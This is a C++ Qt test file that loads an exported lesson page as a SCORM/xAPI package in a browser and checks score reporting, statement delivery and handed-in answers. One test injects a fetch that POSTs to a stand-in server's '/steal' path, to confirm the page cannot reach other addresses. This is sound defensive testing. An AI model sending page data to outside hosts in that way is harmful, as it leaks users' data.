#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTest>
#include <QUrl>
#include <QXmlStreamReader>

#include "core/class/answer_code.h"
#include "core/class/collected_class.h"
#include "core/file/whole_file.h"
#include "core/file/zip_files.h"
#include "tests/test_class.h"
#include "tests/ui/plot/figure/browser_page.h"
#include "tests/ui/plot/lesson_page/stand_in_system.h"
#include "ui/plot/lesson_page/lesson_page_files.h"

namespace fs = std::filesystem;

namespace {

const std::string lessonText =
    "# Roses\n\n```lesson\nlanguage: en\nversion: 1\n```\n\n## Guess\n\nWhere?\n\n```state\n{\"runs\": [{\"model\": "
    "\"bundled:named-heads\", \"texts\": [\"a rose is a rose\"]}], \"focus\": {\"head\": 1}, \"view\": \"map\"}\n```\n"
    "```predict\nrow \"rose\" #2\n```\n"
    "```question\nask: Which?\nkind: choice\noption: one\noption*: both\noption: none\n```\n"
    "## Ask\n\nMore.\n\n"
    "```question\nask: How many?\nkind: number\nanswer: 0.25\ntolerance: 0.01\n```\n"
    "```question\nask: Which word?\nkind: token\nanswer: \"rose\" #2\n```\n"
    "```question\nask: Which head?\nkind: head\nanswer: 1.2\n```\n"
    "```question\nask: Which cell?\nkind: cell\nanswer: is -> a\n```\n"
    "```question\nask: Why?\nkind: text\nanswer: Because.\n```\n"
    "## Turn\n\nDo.\n\n```goal\nonly mask\n```\n";

/// A learning system's frame around the page: SCORM's object, which keeps what it is told.
QByteArray frameOf(const QByteArray& query)
{
    return "<!DOCTYPE html><html><body><script>window.kept = JSON.parse(localStorage.getItem('kept') ?? '{}');\n"
           "const keep = (name, value) => { kept[name] = value; localStorage.setItem('kept', JSON.stringify(kept)); "
           "};\n"
           "window.calls = []; window.API = { LMSInitialize: () => (calls.push('Initialize'), 'true'), LMSFinish: () "
           "=> "
           "(calls.push('Finish'), 'true'), LMSGetValue: (name) => kept[name] ?? '', LMSSetValue: (name, value) => "
           "{ if (name === 'cmi.suspend_data' && value.length > 4096) throw 'too long'; keep(name, value); return "
           "'true'; }, "
           "LMSCommit: () => (calls.push('Commit'), 'true'), LMSGetLastError: () => '0' };</script>"
           "<iframe id=\"sco\" width=\"1200\" height=\"800\" src=\"/index.html"
           + query + "\"></iframe></body></html>";
}

}  // namespace

/// A lesson's page in a browser, as a package of a learning system, and handed in.
class TestLessonPageInSystem final : public QObject {
    Q_OBJECT
private slots:
    void initTestCase()
    {
        if (BrowserPage::browser().isEmpty()) QSKIP("no Chromium here");
        const fs::path file = m_folder.path().toStdString();
        core::writeWhole(file / "roses.lesson.md", lessonText);
        const core::Lesson lesson = core::Lesson::open(file / "roses.lesson.md");
        const LessonPageFile made = lessonPageFile(lesson, "roses.zip", {});
        QVERIFY(made.warnings.isEmpty());
        for (const core::PackedFile& each : core::filesOfZip(
                 std::as_bytes(std::span(made.bytes.constData(), static_cast<std::size_t>(made.bytes.size()))), "zip"))
            m_system.serve('/' + QByteArray::fromStdString(each.name), QByteArray::fromStdString(each.bytes));
        m_package = made.bytes;
        m_page = std::make_unique<BrowserPage>();
    }

    void theManifestNamesThePage()
    {
        for (const core::PackedFile& each : core::filesOfZip(
                 std::as_bytes(std::span(m_package.constData(), static_cast<std::size_t>(m_package.size()))), "zip")) {
            if (!each.name.ends_with(".xml")) continue;
            QXmlStreamReader xml(QByteArray::fromStdString(each.bytes));
            while (!xml.atEnd()) {
                xml.readNext();
                if (xml.isStartElement() && xml.name() == QLatin1String("resource")) {
                    QCOMPARE(xml.attributes().value("href").toString(), QString("index.html"));
                    QCOMPARE(xml.attributes().value("adlcp:scormtype").toString(), QString("sco"));
                }
            }
            QVERIFY2(!xml.hasError(), qPrintable(xml.errorString()));
        }
    }

    /// SCORM 1.2: score, state and status; when it is opened again, the answers are there.
    void aSystemIsToldHowItStands()
    {
        m_system.serve("/lms.html", frameOf({}));
        openFrame();
        answerAll();
        QVERIFY(waitForFrame("parent.kept['cmi.core.lesson_status'] === 'completed'"));
        QCOMPARE(inFrame("parent.kept['cmi.core.score.raw']").toString(), QString("80"));  // four of five
        QVERIFY(inFrame("parent.kept['cmi.suspend_data'].length <= 4096").toBool());
        QVERIFY(inFrame("parent.calls.includes('Initialize') && parent.calls.includes('Commit')").toBool());
        openFrame();
        inFrame("lessonPage.go(2)");
        QVERIFY(waitForFrame("document.querySelectorAll('#step2 .verdict').length === 5 && "
                             "document.querySelectorAll('#step2 .question input')[0].value === '0,25'"));
        QVERIFY(waitForFrame("document.querySelectorAll('#step2 .verdict')[0].textContent === '✓ Right.'"));
    }

    /// xAPI: statements to the endpoint of the launch, with its authorization, and to no other address.
    void statementsGoToTheEndpointOfTheLaunch()
    {
        StandInSystem store, stranger;
        const QByteArray query =
            "?endpoint=" + QUrl::toPercentEncoding(store.address() + "/xapi/")
            + "&auth=Basic%20abc&actor=" + QUrl::toPercentEncoding("{\"mbox\":\"mailto:ada@example.org\"}")
            + "&registration=r1&activity_id=" + QUrl::toPercentEncoding("https://example.org/roses");
        m_system.serve("/lms.html", frameOf(query));
        forget();
        openFrame();
        answerAll();
        QTRY_VERIFY_WITH_TIMEOUT(store.posted().size() >= 7, 20000);  // six answers, and that it is completed
        std::map<QString, int> verbs;
        for (const StandInSystem::Sent& each : store.posted()) {
            QCOMPARE(each.path, QByteArray("/xapi/statements"));
            QVERIFY(each.head.toLower().contains("authorization: basic abc"));
            QVERIFY(each.head.toLower().contains("x-experience-api-version: 1.0.3"));
            const QJsonObject statement = QJsonDocument::fromJson(each.body).object();
            ++verbs[statement["verb"]["id"].toString().section('/', -1)];
            QCOMPARE(statement["actor"]["mbox"].toString(), QString("mailto:ada@example.org"));
            QCOMPARE(statement["context"]["registration"].toString(), QString("r1"));
            if (statement["verb"]["id"].toString().endsWith("completed"))
                QCOMPARE(statement["result"]["score"]["raw"].toInt(), 4);
        }
        QCOMPARE(verbs["answered"], 6);
        QCOMPARE(verbs["completed"], 1);
        // Whatever a script on the page tries: no other address is reached.
        inFrame("window.fetch('" + stranger.address()
                + "/steal', {method: 'POST', body: 'x'}).catch(() => 0).then(() => "
                  "window.tried = true)");
        QVERIFY(waitForFrame("window.tried === true"));
        QVERIFY(stranger.posted().empty());
    }

    /// What is handed in by the page is collected as what the program hands in.
    void thePageHandsInAFileAndACode()
    {
        m_system.serve("/lms.html", frameOf({}));
        forget();
        openFrame();
        answerAll();
        inFrame("lessonPage.handIn.name.value = '17', lessonPage.handIn.sheet.value = 3, lessonPage.handIn.toggle()");
        const std::string code = inFrame("lessonPage.handIn.code.value").toString().toStdString();
        const QString text = inFrame("JSON.stringify(lessonPage.handIn.answers())").toString();
        core::OpenedModels models;
        const fs::path file = fs::path(m_folder.path().toStdString()) / "roses.lesson.md";
        const core::AnsweredLesson lesson = core::answeredLesson(file, models);
        const core::LessonAnswers handed = core::answersFrom(text.toStdString(), "page");
        const core::LessonAnswers coded = core::answersOfCode(code, *lesson.lesson, lesson.grounds);
        QCOMPARE(handed.version, lesson.lesson->version());
        QCOMPARE(handed.student, std::string("17"));
        QCOMPARE(coded.student, std::string("17"));
        QCOMPARE(coded.variant, core::Index{3});
        QCOMPARE(handed.answers.size(), std::size_t{6});
        QCOMPARE(handed.expectations.size(), std::size_t{1});
        QCOMPARE(handed.expectations[0].points[1], 60.0);
        QCOMPARE(coded.expectations.size(), std::size_t{1});
        for (const core::LessonAnswer& each : handed.answers) {
            const core::LessonAnswer* again = coded.answerTo(each.step, each.question);
            QVERIFY(again != nullptr);
            const core::LessonAnswer judged =
                judgedAnswer(*lesson.lesson, each.step, each.question, each.said, lesson.grounds[each.step]);
            QCOMPARE(each.places, judged.places);
            QCOMPARE(again->places, judged.places);
            if (judged.right) QCOMPARE(*judged.right, each.step != 1 || each.question != 2);  // the head is wrong
        }
        // And in a folder, it is a class of one.
        fs::create_directories(fs::path(m_folder.path().toStdString()) / "in");
        core::writeWhole(fs::path(m_folder.path().toStdString()) / "in/17.attnanswers", text.toStdString());
        const auto collected =
            core::collectClass(core::answeredLesson(file, models), fs::path(m_folder.path().toStdString()) / "in");
        QCOMPARE(collected.members.size(), std::size_t{1});
        QVERIFY(collected.refused.empty());
    }

private:
    void openFrame()
    {
        const QString query = QString("?%1").arg(++m_opened);
        m_page->evaluate("location = '" + m_system.address() + "/lms.html" + query + "'");
        QVERIFY(m_page->waitFor("location.search === '" + query
                                + "' && document.getElementById('sco') && "
                                  "document.getElementById('sco').contentWindow.lessonPage?.report !== undefined"));
    }
    /// Another student sits down.
    void forget() { m_page->evaluate("localStorage.clear()"); }
    /// The value of an expression in the page's own window, whose policy forbids eval.
    static QString framed(const QString& script)
    {
        return "((window, document, lessonPage, parent) => (" + script
               + "))(...(f => [f, f.document, f.lessonPage, window])(document.getElementById('sco').contentWindow))";
    }
    QJsonValue inFrame(const QString& script) { return m_page->evaluate(framed(script)); }
    bool waitForFrame(const QString& script) { return m_page->waitFor(framed(script)); }
    /// Points to the second word, and six answers, of which the head's is wrong.
    void answerAll()
    {
        inFrame("lessonPage.go(1)");
        QVERIFY(waitForFrame("lessonPage.steps[0].guess !== undefined"));
        inFrame("lessonPage.steps[0].guess.inputs[1].give(60), lessonPage.steps[0].guess.show(true), true");
        QVERIFY(waitForFrame("!document.querySelector('#step1 .questions').hidden"));
        inFrame("[...document.querySelectorAll('#step1 .option')].find(each => each.textContent === 'both')"
                ".querySelector('input').click(), document.querySelector('#step1 [type=submit]').click()");
        inFrame("lessonPage.go(2)");
        QVERIFY(waitForFrame("document.querySelectorAll('#step2 .question').length === 5"));
        inFrame("['0,25', '\"rose\" #2', '1.3', 'is → a#1', 'So it is.'].forEach((said, place) => { const form = "
                "document.querySelectorAll('#step2 .question')[place]; form.querySelector('input[type=text], "
                "textarea').value = said; form.querySelector('[type=submit]').click(); })");
        QVERIFY(waitForFrame("lessonPage.steps[1].questions.every(each => each.given)"));
    }

    QTemporaryDir m_folder;
    QByteArray m_package;
    StandInSystem m_system;
    int m_opened = 0;
    std::unique_ptr<BrowserPage> m_page;
};

TEST_CLASS(TestLessonPageInSystem)
#include "tst_lesson_page_in_system.moc"
